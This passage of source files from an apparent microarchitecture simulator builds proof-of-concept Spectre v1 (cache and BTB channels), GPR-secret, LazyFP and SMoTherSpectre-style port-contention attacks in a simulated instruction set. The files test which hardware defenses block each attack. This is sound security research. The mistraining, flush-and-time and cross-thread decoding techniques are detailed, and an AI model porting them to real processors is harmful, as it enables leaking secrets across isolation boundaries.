    b.bind(main_l);
    b.movi(1, static_cast<std::int64_t>(kSecretAddr));
    b.prefetch(1, 0);                // warm: the victim used it recently
    b.movi(21, 1);                   // r21 = window number n
    auto bail = b.futureLabel();
    auto window_loop = b.label();
    {
        // Wait (with timeout) for the attacker to open window n. The
        // exit is the *fall-through* so the predicted direction while
        // waiting stays in the loop — an exit-by-taken-branch would
        // get predicted eagerly and speculatively pre-execute the
        // window body before the rendezvous (warming its lines).
        b.movi(5, 0);
        auto spin = b.label();
        b.movi(1, static_cast<std::int64_t>(kSmtFlag));
        b.load(2, 1, 0, 8);
        b.addi(5, 5, 1);
        b.movi(3, kSpinTimeout);
        b.bgeu(5, 3, bail);          // no co-resident attacker: give up
        b.bltu(2, 21, spin);

        // Train the bounds check in-bounds with the burst disarmed
        // (want = 2 never equals a bit value).
        b.movi(23, 2);
        b.movi(18, 0);
        auto train = b.label();
        b.movi(10, 5);
        b.call(30, victim_fn);
        b.addi(18, 18, 1);
        b.movi(3, 4);
        b.blt(18, 3, train);

        // Arm: fetch the probed bit and this window's polarity, and
        // re-warm the secret's line (the working set can evict it; a
        // late-resolving secret makes the burst miss the window).
        b.movi(1, static_cast<std::int64_t>(kSmtBit));
        b.load(22, 1, 0, 8);
        b.movi(1, static_cast<std::int64_t>(kSmtWant));
        b.load(23, 1, 0, 8);
        b.movi(1, static_cast<std::int64_t>(kSecretAddr));
        b.prefetch(1, 0);

        // Fresh gshare slot, wide window, then ack and mis-speculate.
        emitHistoryScramble(b, 21);
        b.movi(10, kSecretDelta);
        b.movi(1, static_cast<std::int64_t>(kBoundAddr));
        b.clflush(1, 0);
        b.fence();
        b.movi(1, static_cast<std::int64_t>(kSmtAck));
        b.store(1, 0, 21, 8);        // commit right before the gadget
        b.call(30, victim_fn);
        b.fence();
    }
    b.addi(21, 21, 1);
    b.movi(3, windows + 1);
    b.bltu(21, 3, window_loop);
    b.bind(bail);
    b.halt();

    // --- attacker loop (thread 1) ---------------------------------------
    // One loop, not an unrolled window sequence: fetch models the
    // i-cache, so unrolled per-window code would take a string of
    // cold i-side misses every window and the probe would usually
    // start after the victim's speculation window had already closed.
    // A loop body is i-warm from the first windows on, and the window
    // parameters (bit, polarity, accumulator slot) are data-driven.
    const Addr attacker_entry = b.here();
    auto abort_l = b.futureLabel();
    auto write_l = b.futureLabel();

    b.movi(18, 1);                   // r18 = window number n
    b.movi(3, 7);                    // innocuous probe operand

    auto window_l = b.label();
    {
        // k = n - warmups - 1; window order per bit is A,B,A,B...
        // so bit = k >> 2 (roundsPerBit == 2) and want = (k & 1) ^ 1.
        // Warmup windows (k < 0) publish garbage parameters and
        // accumulate into a trash slot below.
        b.addi(16, 18, -(plan.warmupWindows + 1));
        b.andi(17, 16, 1);
        b.xori(17, 17, 1);           // r17 = want
        b.shri(19, 16, 2);
        b.andi(19, 19, 7);           // r19 = bit
        b.movi(7, static_cast<std::int64_t>(kSmtBit));
        b.store(7, 0, 19, 8);
        b.movi(7, static_cast<std::int64_t>(kSmtWant));
        b.store(7, 0, 17, 8);
        b.movi(7, static_cast<std::int64_t>(kSmtFlag));
        b.store(7, 0, 18, 8);        // stores commit in program order

        // Fall-through exit for the same reason as the victim's spin:
        // a predicted-taken exit would pre-run the timed probe
        // speculatively and warm the probe line before measuring.
        // Each poll's address is chained off the previous poll's value
        // ((v & 0) == 0): without the chain, run-ahead fills the ROB
        // with polls that all executed before the ack store committed,
        // and draining those stale iterations delays the probe past
        // the victim's speculation window.
        b.movi(10, 0);
        b.movi(7, static_cast<std::int64_t>(kSmtAck));
        auto spin = b.label();
        b.load(5, 7, 0, 8);
        b.andi(6, 5, 0);
        b.movi(7, static_cast<std::int64_t>(kSmtAck));
        b.add(7, 7, 6);
        b.addi(10, 10, 1);
        b.movi(9, kSpinTimeout);
        b.bgeu(10, 9, abort_l);      // victim never launched: no signal
        b.bltu(5, 18, spin);

        b.movi(26, 0);
        probe(b, 26);                // r26 = this window's probe time

        // Accumulate into the bit's A (want==1) or B (want==0) slot;
        // warmup windows are steered to a trash slot instead:
        // addr = trash + (slot - trash) * (n > warmups).
        b.shli(8, 19, 4);
        b.movi(7, static_cast<std::int64_t>(kSmtSyncBase) + 0x40);
        b.add(7, 7, 8);
        b.xori(9, 17, 1);
        b.shli(9, 9, 3);
        b.add(7, 7, 9);
        b.movi(9, plan.warmupWindows);
        b.cmpltu(9, 9, 18);
        b.movi(8, static_cast<std::int64_t>(kSmtSyncBase) + 0x1C0);
        b.sub(7, 7, 8);
        b.mul(7, 7, 9);
        b.add(7, 7, 8);
        b.load(6, 7, 0, 8);
        b.add(6, 6, 26);
        b.store(7, 0, 6, 8);

        b.addi(18, 18, 1);
        b.movi(9, windows + 1);
        b.bltu(18, 9, window_l);
    }

    // Decode (timing no longer matters past this point): bit = 1 iff
    // T_A clears T_B by the margin; neither clearing the other means
    // the burst never ran (the victim is protected) and the bit is
    // counted as ambiguous.
    b.movi(20, 0);                   // r20 = decoded byte
    b.movi(21, 0);                   // r21 = ambiguous-bit count
    for (int bit = 0; bit < 8; ++bit) {
        b.movi(8, static_cast<std::int64_t>(kSmtSyncBase) + 0x40 +
                      bit * 16);
        b.load(24, 8, 0, 8);         // accumulated T_A (want bit == 1)
        b.load(25, 8, 8, 8);         // accumulated T_B (want bit == 0)
        b.addi(8, 25, plan.margin);
        b.cmpltu(9, 8, 24);          // confident 1
        b.addi(10, 24, plan.margin);
        b.cmpltu(11, 10, 25);        // confident 0
        b.or_(12, 9, 11);
        b.xori(12, 12, 1);
        b.add(21, 21, 12);
        b.shli(9, 9, bit);
        b.add(20, 20, 9);
    }

    // All eight bits ambiguous = no signal at all: push the decoded
    // value out of range so no results slot reads "fast".
    b.movi(9, 8);
    b.cmpeq(10, 21, 9);
    b.muli(11, 10, 256);
    b.add(20, 20, 11);
    b.jmp(write_l);

    b.bind(abort_l);
    b.movi(20, 256);

    // Timing table: 10 cycles for the decoded byte, 1000 for the rest
    // (the channel signals via speed, like the cache recover loop).
    b.bind(write_l);
    b.movi(12, 0);
    auto wloop = b.label();
    b.cmpeq(13, 12, 20);
    b.muli(14, 13, -990);
    b.addi(14, 14, 1000);
    b.movi(15, static_cast<std::int64_t>(kResultsBase));
    b.shli(16, 12, 3);
    b.add(15, 15, 16);
    b.store(15, 0, 14, 8);
    b.addi(12, 12, 1);
    b.movi(9, 256);
    b.blt(12, 9, wloop);
    b.halt();

    Program p = b.build();
    p.smtEntry = attacker_entry;
    return p;
}

} // namespace nda
