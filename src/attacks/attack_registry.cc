#include "attacks/attack_registry.hh"

#include "attacks/attacks.hh"

namespace nda {

std::vector<std::unique_ptr<AttackBase>>
makeAllAttacks()
{
    std::vector<std::unique_ptr<AttackBase>> attacks;
    attacks.push_back(std::make_unique<SpectreV1Cache>());
    attacks.push_back(std::make_unique<SpectreV1Btb>());
    attacks.push_back(std::make_unique<SpectreV11>());
    attacks.push_back(std::make_unique<SpectreV2>());
    attacks.push_back(std::make_unique<Ret2Spec>());
    attacks.push_back(std::make_unique<SpectreSsb>());
    attacks.push_back(std::make_unique<SpectreGpr>());
    attacks.push_back(std::make_unique<Meltdown>());
    attacks.push_back(std::make_unique<LazyFp>());
    attacks.push_back(std::make_unique<SmotherPort>());
    attacks.push_back(std::make_unique<MshrContention>());
    return attacks;
}

std::unique_ptr<AttackBase>
makeAttack(const std::string &name)
{
    for (auto &attack : makeAllAttacks()) {
        if (attack->name() == name)
            return std::move(attack);
    }
    return nullptr;
}

} // namespace nda
