#include "attacks/covert_channel.hh"

namespace nda {

using namespace attack_layout;

void
declareChannelSegments(ProgramBuilder &b)
{
    b.zeroSegment(kProbeBase, 256 * kProbeStride);
    b.zeroSegment(kResultsBase, 256 * 8);
}

void
emitProbeFlush(ProgramBuilder &b)
{
    // for (i = 0; i < 256; ++i) clflush(probe[i * 512]);
    b.movi(18, 0);
    b.movi(19, 256);
    b.movi(1, kProbeBase);
    auto loop = b.label();
    b.shli(2, 18, 9);
    b.add(2, 1, 2);
    b.clflush(2, 0);
    b.addi(18, 18, 1);
    b.blt(18, 19, loop);
    b.fence();
}

void
emitCacheTransmit(ProgramBuilder &b, RegId secret_reg)
{
    // t &= probe[secret * 512]
    b.shli(15, secret_reg, 9);
    b.movi(16, kProbeBase);
    b.add(16, 16, 15);
    b.load(17, 16, 0, 1);
}

void
emitHistoryScramble(ProgramBuilder &b, RegId salt_reg)
{
    b.muli(6, salt_reg, 0x9E3779B1);
    b.movi(9, 0);
    for (int bit = 0; bit < 12; ++bit) {
        b.shri(7, 6, bit);
        b.andi(7, 7, 1);
        auto skip = b.futureLabel();
        b.bne(7, 9, skip); // data-dependent direction
        b.nop();
        b.bind(skip);
    }
}

void
emitCacheRecoverLoop(ProgramBuilder &b)
{
    // for (guess = 0; guess < 256; ++guess) {
    //     t1 = rdtsc; tmp = probe[guess * 512]; t2 = rdtsc;
    //     results[guess] = t2 - t1;
    // }
    b.movi(18, 0);
    b.movi(19, 256);
    auto loop = b.label();
    b.shli(2, 18, 9);
    b.movi(1, kProbeBase);
    b.add(2, 1, 2);
    b.fence();
    b.rdtsc(3);
    b.load(4, 2, 0, 1);
    b.rdtsc(5);
    b.sub(6, 5, 3);
    b.movi(7, kResultsBase);
    b.shli(8, 18, 3);
    b.add(7, 7, 8);
    b.store(7, 0, 6, 8);
    b.addi(18, 18, 1);
    b.blt(18, 19, loop);
}

} // namespace nda
