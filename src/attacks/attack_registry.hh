/**
 * @file
 * Registry of all attack PoCs, for the security test suite and the
 * Table 1 / Table 2 matrix benchmarks.
 */

#ifndef NDASIM_ATTACKS_ATTACK_REGISTRY_HH
#define NDASIM_ATTACKS_ATTACK_REGISTRY_HH

#include <memory>
#include <vector>

#include "attacks/attack_base.hh"

namespace nda {

/** All implemented attacks, control-steering first. */
std::vector<std::unique_ptr<AttackBase>> makeAllAttacks();

/** Build one attack by name; nullptr if unknown. */
std::unique_ptr<AttackBase> makeAttack(const std::string &name);

} // namespace nda

#endif // NDASIM_ATTACKS_ATTACK_REGISTRY_HH
