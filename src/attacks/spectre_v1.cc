/**
 * @file
 * Spectre v1 with the d-cache covert channel — paper Listing 1.
 *
 * Victim:
 *     if (x < array_size)            // mis-trained to predict in-bounds
 *         t &= probe[array[x] * 512];
 *
 * The attacker trains the bounds check with valid x, flushes the
 * bounds variable so the branch resolves late (a wide speculation
 * window), then calls with x = kSecretDelta so the wrong path reads
 * the secret and leaves probe[secret * 512] in the cache.
 */

#include "attacks/attacks.hh"
#include "attacks/covert_channel.hh"

namespace nda {

using namespace attack_layout;

Program
SpectreV1Cache::build(std::uint8_t secret) const
{
    ProgramBuilder b("spectre-v1-cache");
    declareChannelSegments(b);
    b.zeroSegment(kVictimArray, 16);
    b.word(kBoundAddr, 16);
    b.segment(kSecretAddr, {secret});

    auto main_l = b.futureLabel();
    b.jmp(main_l);

    // --- victim(x in r10), link in r30 ----------------------------------
    auto victim = b.label();
    auto vend = b.futureLabel();
    b.movi(11, static_cast<std::int64_t>(kBoundAddr));
    b.load(12, 11, 0, 8);            // bound (flushed: resolves late)
    b.bgeu(10, 12, vend);            // trained not-taken; steered here
    b.movi(13, static_cast<std::int64_t>(kVictimArray));
    b.add(13, 13, 10);
    b.load(14, 13, 0, 1);            // (1) access: secret = array[x]
    emitCacheTransmit(b, 14);        // (2) transmit via the d-cache
    b.bind(vend);
    b.ret(30);

    // --- main --------------------------------------------------------------
    b.bind(main_l);
    // Warm the secret's cache line (the victim used it recently).
    b.movi(1, static_cast<std::int64_t>(kSecretAddr));
    b.prefetch(1, 0);
    emitProbeFlush(b);

    // Train the bounds check 32 times with x = 5, then attack once
    // with x = kSecretDelta on the 33rd iteration of the same loop so
    // the global history at the attack call matches training.
    b.movi(18, 0);
    auto train = b.label();
    b.movi(5, 32);
    b.cmpeq(3, 18, 5);                       // 1 on the attack iteration
    b.muli(4, 3, kSecretDelta - 5);
    b.addi(10, 4, 5);                        // x = 5 or kSecretDelta
    b.movi(1, static_cast<std::int64_t>(kBoundAddr));
    b.clflush(1, 0);                         // widen the window
    b.fence();
    b.call(30, victim);
    b.addi(18, 18, 1);
    b.movi(5, 33);
    b.blt(18, 5, train);
    b.fence();

    // (3) recover: time every probe line.
    emitCacheRecoverLoop(b);
    b.halt();
    return b.build();
}

bool
SpectreV1Cache::expectedBlocked(const SecurityConfig &cfg) const
{
    // Any NDA propagation policy blocks control-steering memory leaks
    // (Table 2 rows 1-4); so does load restriction (row 5) and both
    // InvisiSpec variants (d-cache channel).
    return cfg.propagation != NdaPolicy::kNone || cfg.loadRestriction ||
           cfg.invisiSpec != InvisiSpecMode::kOff;
}

} // namespace nda
