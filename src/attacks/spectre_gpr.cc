/**
 * @file
 * Hypothetical control-steering attack on a *GPR-resident* secret
 * (paper §4.2): the victim legitimately loads a secret into a
 * general-purpose register; the attacker then mis-steers the victim's
 * return into a gadget that pre-processes (shift — a non-load op) and
 * transmits the register's value.
 *
 * This attack separates NDA's strict and permissive policies:
 * permissive propagation marks only loads unsafe, so the non-load
 * pre-processing wakes the transmit load and the secret leaks; strict
 * propagation defers the pre-processing op's broadcast and blocks it
 * (Table 2, "Control steering (GPRs)" column).
 */

#include "attacks/attacks.hh"
#include "attacks/covert_channel.hh"

namespace nda {

using namespace attack_layout;

namespace {
constexpr Addr kRetSlot = kVictimBase + 0x900;
} // namespace

Program
SpectreGpr::build(std::uint8_t secret) const
{
    ProgramBuilder b("spectre-gpr");
    declareChannelSegments(b);
    b.segment(kSecretAddr, {secret});

    auto main_l = b.futureLabel();
    b.jmp(main_l);

    // --- victim F: loads its secret into r25 for legitimate use, then
    // returns through a corrupted (slow) return address.
    auto victim = b.label();
    b.movi(9, static_cast<std::int64_t>(kSecretAddr));
    b.load(25, 9, 0, 1);             // secret -> GPR (correct path!)
    b.movi(19, static_cast<std::int64_t>(kRetSlot));
    b.load(20, 19, 0, 8);            // slow corrupted return address
    b.mov(30, 20);
    b.ret(30);                       // RAS predicts call-site + 1

    // --- recovery landing point (actual return target) ------------------
    const Addr recover_pc = b.here();
    b.word(kRetSlot, recover_pc);
    emitCacheRecoverLoop(b);
    b.halt();

    // --- main ------------------------------------------------------------------
    b.bind(main_l);
    b.movi(1, static_cast<std::int64_t>(kSecretAddr));
    b.prefetch(1, 0);
    emitProbeFlush(b);
    b.movi(1, static_cast<std::int64_t>(kRetSlot));
    b.clflush(1, 0);
    b.fence();
    b.call(30, victim);
    // Wrong-path gadget at the predicted return target. Note: no load
    // of the secret here — it is already in r25. The pre-processing
    // (shli, add) consists of non-load micro-ops.
    b.shli(15, 25, 9);
    b.movi(16, static_cast<std::int64_t>(kProbeBase));
    b.add(16, 16, 15);
    b.load(17, 16, 0, 1);            // transmit
    b.halt();                        // unreachable
    return b.build();
}

bool
SpectreGpr::expectedBlocked(const SecurityConfig &cfg) const
{
    // Permissive propagation and load restriction do NOT protect
    // GPR-resident secrets (Table 2 rows 1-2, 5); strict propagation
    // does (rows 3-4, 6). InvisiSpec blocks the d-cache transmission.
    return cfg.propagation == NdaPolicy::kStrict ||
           cfg.invisiSpec != InvisiSpecMode::kOff;
}

} // namespace nda
