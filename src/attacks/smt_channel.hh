/**
 * @file
 * Scaffolding for the cross-thread (SMT co-residency) attack PoCs.
 *
 * Both cross-thread attacks share the same two-program shape:
 *
 *  - Thread 0 (victim, NDA-protected): loops over measurement
 *    windows. Per window it waits for the attacker to open the window
 *    (attack_layout::kSmtFlag), trains its bounds check in-bounds,
 *    scrambles branch history, flushes the bound, acknowledges
 *    (kSmtAck), and calls the gadget out-of-bounds so the wrong path
 *    reads the secret and runs an attack-specific resource burst iff
 *    the probed secret bit equals the window's polarity.
 *
 *  - Thread 1 (attacker, unprotected): per bit it opens paired
 *    windows with opposite polarity (A wants bit==1, B wants bit==0)
 *    and times an attack-specific probe through the shared resource
 *    in each. Exactly one window of each pair sees the burst, so
 *    bit = (T_A > T_B) — a differential decode that needs no absolute
 *    calibration. If no pair shows a margin (the victim is
 *    protected), the attacker writes a flat timing table, so the
 *    timing verdict is "safe" without special-casing.
 *
 * The handshake runs through plain shared-memory words (stores become
 * visible at commit; both threads share the functional MemoryMap), so
 * the overlap of the attacker's timed section with the victim's
 * speculation window is deterministic. Every spin loop carries a
 * timeout that abandons the protocol, letting the program halt even
 * when the co-resident thread never shows up (e.g. on a single-thread
 * or in-order core).
 */

#ifndef NDASIM_ATTACKS_SMT_CHANNEL_HH
#define NDASIM_ATTACKS_SMT_CHANNEL_HH

#include <cstdint>
#include <functional>

#include "isa/program.hh"

namespace nda {

/** Window-count and decode parameters for one cross-thread attack. */
struct SmtWindowPlan {
    /** A/B window pairs accumulated per secret bit. */
    int roundsPerBit = 2;
    /** Leading windows discarded to reach cache/predictor steady state. */
    int warmupWindows = 2;
    /** Minimum accumulated |T_A - T_B| (cycles) to call a bit. */
    std::int64_t margin = 24;

    int totalWindows() const { return warmupWindows + 8 * roundsPerBit * 2; }
};

/**
 * Emits the wrong-path payload of the victim gadget. On entry the
 * secret byte was just loaded into r14; r22 holds the probed bit
 * index, r23 the window polarity (2 on training calls, disarming the
 * burst), r21 the current window number, r10 the gadget argument x.
 * Scratch: r8, r15, r16, r17. Branch to `vend` to skip the burst.
 */
using SmtGadgetBody =
    std::function<void(ProgramBuilder &b, ProgramBuilder::Label vend)>;

/**
 * Emits the attacker's timed probe: bracket the contended-resource
 * payload with rdtsc and accumulate the cycle delta into `acc`
 * (`b.add(acc, acc, delta)`). r18 holds the current window number
 * (usable for fresh per-window addresses); scratch: r3-r17.
 */
using SmtTimedProbe = std::function<void(ProgramBuilder &b, RegId acc)>;

/**
 * Assemble the full two-thread attack program on `b` (the caller may
 * have declared attack-specific data segments already) and return it
 * with `smtEntry` pointing at the attacker loop.
 */
Program buildSmtAttackProgram(ProgramBuilder &b, std::uint8_t secret,
                              const SmtWindowPlan &plan,
                              const SmtGadgetBody &gadget,
                              const SmtTimedProbe &probe);

} // namespace nda

#endif // NDASIM_ATTACKS_SMT_CHANNEL_HH
