/**
 * @file
 * LazyFP / Meltdown v3a analog: a user-mode read of a privileged
 * special register (RDMSR) forwards the stale value to dependents
 * before the permission fault is delivered. NDA treats RDMSR like a
 * load (paper §5.2/§5.3), so load restriction blocks it.
 */

#include "attacks/attacks.hh"
#include "attacks/covert_channel.hh"

namespace nda {

using namespace attack_layout;

namespace {
/** The privileged MSR holding another context's secret. */
constexpr unsigned kSecretMsr = 3;
} // namespace

Program
LazyFp::build(std::uint8_t secret) const
{
    ProgramBuilder b("lazyfp-v3a");
    declareChannelSegments(b);
    b.initMsr(kSecretMsr, secret, /*privileged=*/true);

    emitProbeFlush(b);
    b.fence();

    // (1) access: privileged special-register read (faults at commit).
    b.rdmsr(11, kSecretMsr);
    // (2) transmit in the fault's shadow.
    emitCacheTransmit(b, 11);
    for (int i = 0; i < 8; ++i)
        b.nop();
    b.halt(); // not reached

    // (3) recover in the fault handler.
    auto handler = b.label();
    b.faultHandlerAt(handler);
    emitCacheRecoverLoop(b);
    b.halt();
    return b.build();
}

void
LazyFp::declareSecrets(SecretMap &secrets) const
{
    secrets.addMsr(kSecretMsr, "privileged-msr");
}

bool
LazyFp::expectedBlocked(const SecurityConfig &cfg) const
{
    if (!cfg.meltdownFlaw)
        return true;
    return cfg.loadRestriction ||
           cfg.invisiSpec == InvisiSpecMode::kFuture;
}

} // namespace nda
