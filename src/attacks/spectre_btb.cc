/**
 * @file
 * Spectre v1 with the *BTB* covert channel — paper §3, Listing 3 and
 * Fig 5. The transmit phase is a speculative indirect call through a
 * table of 256 target functions, all from a single call site, so the
 * BTB entry for that site ends up encoding the secret. Recovery times
 * a correct-path call per guess: only the correct guess predicts the
 * target and avoids the ~16-cycle mispredict penalty. No cache state
 * depends on the secret: the table and all targets stay cached.
 */

#include "attacks/attacks.hh"
#include "attacks/covert_channel.hh"

namespace nda {

using namespace attack_layout;

Program
SpectreV1Btb::build(std::uint8_t secret) const
{
    ProgramBuilder b("spectre-v1-btb");
    declareChannelSegments(b);
    b.zeroSegment(kVictimArray, 16);
    b.word(kBoundAddr, 16);
    b.segment(kSecretAddr, {secret});

    auto main_l = b.futureLabel();
    b.jmp(main_l);

    // --- 256 target functions (paper Listing 3 line 2) ------------------
    std::vector<std::uint8_t> table(256 * 8);
    std::vector<Addr> target_pcs;
    target_pcs.reserve(256);
    for (int i = 0; i < 256; ++i) {
        target_pcs.push_back(b.here());
        b.ret(28);
    }
    for (int i = 0; i < 256; ++i) {
        const Addr pc = target_pcs[static_cast<std::size_t>(i)];
        for (int j = 0; j < 8; ++j) {
            table[static_cast<std::size_t>(i) * 8 + j] =
                static_cast<std::uint8_t>(pc >> (8 * j));
        }
    }
    b.segment(kTargetTable, std::move(table));

    // --- jumpToTarget(index in r10), link in r29 ------------------------
    // All transmissions and probes go through this single call site so
    // they hit the same BTB entry (Listing 3 lines 5-6).
    auto jump_to_target = b.label();
    b.movi(15, static_cast<std::int64_t>(kTargetTable));
    b.shli(16, 10, 3);
    b.add(15, 15, 16);
    b.load(16, 15, 0, 8);
    b.callr(28, 16);                 // the BTB-keyed call site
    b.ret(29);

    // --- victim(x in r10), link in r30 -----------------------------------
    auto victim = b.label();
    auto vend = b.futureLabel();
    b.movi(11, static_cast<std::int64_t>(kBoundAddr));
    b.load(12, 11, 0, 8);            // flushed -> wide window
    b.bgeu(10, 12, vend);
    b.movi(13, static_cast<std::int64_t>(kVictimArray));
    b.add(13, 13, 10);
    b.load(14, 13, 0, 1);            // (1) access secret
    b.mov(10, 14);
    b.call(29, jump_to_target);      // (2) transmit: BTB <- target[secret]
    b.bind(vend);
    b.ret(30);

    // --- main ----------------------------------------------------------------
    b.bind(main_l);
    b.movi(1, static_cast<std::int64_t>(kSecretAddr));
    b.prefetch(1, 0);

    // Warm the target table, all 256 target functions' i-cache lines,
    // and the BTB update path so later timing differences come only
    // from the BTB prediction (paper §3's validation requirement).
    b.movi(18, 0);
    b.movi(19, 256);
    auto warm = b.label();
    b.mov(10, 18);
    b.call(29, jump_to_target);
    b.addi(18, 18, 1);
    b.blt(18, 19, warm);

    // Recover phase (destructive: one access+transmit per guess,
    // Listing 3 lines 17-24).
    b.movi(25, 0);                   // guess
    auto guess_loop = b.label();
    {
        // Keep the bounds branch's bimodal counter trained in-bounds.
        b.movi(21, 0);
        auto inner = b.label();
        b.movi(10, 5);               // valid x
        b.call(30, victim);
        b.addi(21, 21, 1);
        b.movi(5, 4);
        b.blt(21, 5, inner);
        // Randomize global history so the attack call's gshare slot is
        // fresh, then steer once with the out-of-bounds x.
        emitHistoryScramble(b, 25);
        b.movi(10, kSecretDelta);
        b.movi(1, static_cast<std::int64_t>(kBoundAddr));
        b.clflush(1, 0);
        b.fence();
        b.call(30, victim);
        b.fence();

        // Probe: call jumpToTarget(guess) and time it.
        b.rdtsc(22);
        b.mov(10, 25);
        b.call(29, jump_to_target);
        b.rdtsc(23);
        b.sub(24, 23, 22);
        b.movi(7, static_cast<std::int64_t>(kResultsBase));
        b.shli(8, 25, 3);
        b.add(7, 7, 8);
        b.store(7, 0, 24, 8);
    }
    b.addi(25, 25, 1);
    b.movi(5, 256);
    b.blt(25, 5, guess_loop);
    b.halt();
    return b.build();
}

bool
SpectreV1Btb::expectedBlocked(const SecurityConfig &cfg) const
{
    // NDA blocks it at the source (any policy); InvisiSpec only hides
    // the d-cache, so the BTB channel still leaks (paper Table 2).
    return cfg.propagation != NdaPolicy::kNone || cfg.loadRestriction;
}

} // namespace nda
