/**
 * @file
 * Common driver for the speculative-execution-attack PoCs (paper §3,
 * Table 1/Table 2). Each attack builds a self-contained program with
 * a planted secret byte, runs it on a configurable core, and recovers
 * the secret from the per-guess timing table the program writes.
 */

#ifndef NDASIM_ATTACKS_ATTACK_BASE_HH
#define NDASIM_ATTACKS_ATTACK_BASE_HH

#include <array>
#include <cstdint>
#include <memory>
#include <string>
#include <vector>

#include "core/core_config.hh"
#include "dift/leak_report.hh"
#include "dift/secret_map.hh"
#include "isa/program.hh"

namespace nda {

class CoreBase;

/** Outcome of one attack run. */
struct AttackResult {
    /** Average measured cycles per guess value. */
    std::array<double, 256> timings{};
    /** Guess with the minimum time (the channel signals via speed). */
    int fastestGuess = -1;
    /** Median(timings) - timings[secret]: the leak signal strength. */
    double signal = 0.0;
    /** Signal threshold the attack used. */
    double threshold = 0.0;
    /** How far the signal clears (+) or misses (-) the threshold. */
    double margin = 0.0;
    /** The planted secret. */
    int secret = -1;
    /** Cycles the whole attack program took. */
    Cycle cycles = 0;
    /** The DIFT oracle's ground-truth verdict for the same run. */
    LeakReport oracle;

    /**
     * Did the covert channel reveal the secret? True when the secret
     * guess is decisively faster than the median guess (robust to a
     * stray warm line polluting one other guess value).
     */
    bool leaked() const { return signal > threshold; }
};

/** Base class of all attack PoCs. */
class AttackBase
{
  public:
    virtual ~AttackBase() = default;

    virtual std::string name() const = 0;

    /** Short description for Table 1 / docs. */
    virtual std::string description() const = 0;

    /** Control-steering or chosen-code (paper's taxonomy). */
    virtual bool isChosenCode() const = 0;

    /** Covert channel used ("d-cache", "btb", "port-contention", ...). */
    virtual std::string channel() const = 0;

    /**
     * Does this attack require a co-resident SMT attacker thread?
     * Cross-thread attacks force `smtThreads = 2` in adjustConfig and
     * split the NDA policy per thread (protected victim on thread 0,
     * unprotected attacker on thread 1); `table01_attack_matrix
     * --smt=2` restricts its matrix to these rows.
     */
    virtual bool crossThread() const { return false; }

    /** Build the PoC program with `secret` planted. */
    virtual Program build(std::uint8_t secret) const = 0;

    /** Attack-specific config tweaks (e.g., smaller BTB tags). */
    virtual void adjustConfig(SimConfig &cfg) const { (void)cfg; }

    /** Minimum timing signal (cycles) considered a leak. */
    virtual double signalThreshold() const { return 30.0; }

    /**
     * Declare this attack's secrets to the DIFT leakage oracle. The
     * default is the shared in-victim-memory secret byte
     * (attack_layout::kSecretAddr); attacks with a different secret
     * home (stale store slot, kernel page, MSR) override this.
     */
    virtual void declareSecrets(SecretMap &secrets) const;

    /**
     * Does the paper's Table 2 say this security configuration blocks
     * this attack? Used by the security test suite.
     */
    virtual bool expectedBlocked(const SecurityConfig &cfg) const = 0;

    /** Build, run (up to `max_cycles`), and evaluate the attack. */
    AttackResult run(const SimConfig &cfg, std::uint8_t secret,
                     Cycle max_cycles = 40'000'000) const;

    /**
     * Shared timing-recovery step: read the per-guess timing table
     * the program wrote (attack_layout::kResultsBase), pick the
     * fastest guess, and derive signal and margin from the median.
     * `result.threshold` and `result.secret` must already be set.
     */
    static void recoverByTiming(const CoreBase &core,
                                AttackResult &result);
};

} // namespace nda

#endif // NDASIM_ATTACKS_ATTACK_BASE_HH
