/**
 * @file
 * SMoTherSpectre-style cross-thread port-contention attack.
 *
 * Victim wrong path (behind the mistrained bounds check):
 *     secret = array[x];
 *     beacon: 4 tainted multiplies (always)
 *     if (((secret >> bit) & 1) == want) 32 more tainted multiplies
 *
 * The core has a single mul/div issue port shared by both hardware
 * threads, so while the victim's burst is in flight the co-resident
 * attacker's own multiply chain loses issue slots — a timing channel
 * through pure execution-port arbitration, with no cache mutation
 * anywhere. InvisiSpec therefore does not block it (shadow loads
 * still forward the secret to the multiplies), while NDA's
 * propagation policies and load restriction do: the secret never
 * wakes its dependents, so the burst never reaches the port.
 *
 * The beacon multiplies run on every mis-speculated call regardless
 * of the bit value, so the DIFT oracle sees a tainted op on the
 * contended port (and flags the leak) even for an all-zeros secret —
 * keeping the oracle verdict aligned with the timing decode, which
 * recovers 0x00 in that case.
 */

#include "attacks/attacks.hh"
#include "attacks/covert_channel.hh"
#include "attacks/smt_channel.hh"

namespace nda {

using namespace attack_layout;

Program
SmotherPort::build(std::uint8_t secret) const
{
    ProgramBuilder b("smother-port");
    SmtWindowPlan plan;
    plan.roundsPerBit = 2;
    plan.margin = 16;

    auto gadget = [](ProgramBuilder &pb, ProgramBuilder::Label vend) {
        for (int i = 0; i < 4; ++i)
            pb.mul(15, 14, 14);          // beacon: tainted, unconditional
        pb.shr(16, 14, 22);
        pb.andi(16, 16, 1);              // probed secret bit
        pb.cmpeq(17, 16, 23);            // == window polarity?
        pb.movi(8, 0);
        pb.beq(17, 8, vend);
        for (int i = 0; i < 56; ++i)
            pb.mul(15, 14, 14);          // burst: monopolize the port
    };

    auto probe = [](ProgramBuilder &pb, RegId acc) {
        pb.rdtsc(4);
        // Chain the operand off the rdtsc so out-of-order run-ahead
        // cannot issue the chain before the measured window opens.
        pb.andi(9, 4, 0);
        pb.add(9, 9, 3);
        for (int i = 0; i < 32; ++i)
            pb.mul(5, 9, 9);             // independent: issue-bound
        pb.rdtsc(6);
        pb.sub(5, 6, 4);
        pb.add(acc, acc, 5);
    };

    return buildSmtAttackProgram(b, secret, plan, gadget, probe);
}

void
SmotherPort::adjustConfig(SimConfig &cfg) const
{
    cfg.core.smtThreads = 2;
    cfg.core.mulDivPorts = 1;        // the contended resource
    // Asymmetric co-residency: thread 0 keeps the profile's policy,
    // the attacker on thread 1 runs unprotected.
    cfg.perThreadSecurity = true;
    cfg.security1 = SecurityConfig{};
}

bool
SmotherPort::expectedBlocked(const SecurityConfig &cfg) const
{
    // Any propagation policy (the burst's operands never wake) and
    // load restriction (the secret load never broadcasts off-head)
    // block the channel. InvisiSpec does NOT: it hides cache side
    // effects but still forwards the shadow load's value, so the
    // burst executes and the port contention is observable.
    return cfg.propagation != NdaPolicy::kNone || cfg.loadRestriction;
}

} // namespace nda
