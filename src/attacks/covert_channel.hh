/**
 * @file
 * Shared building blocks for the attack PoCs: the Flush+Reload probe
 * array (paper Listing 1), the timing/recovery loop, and memory
 * layout conventions shared by all attacks.
 */

#ifndef NDASIM_ATTACKS_COVERT_CHANNEL_HH
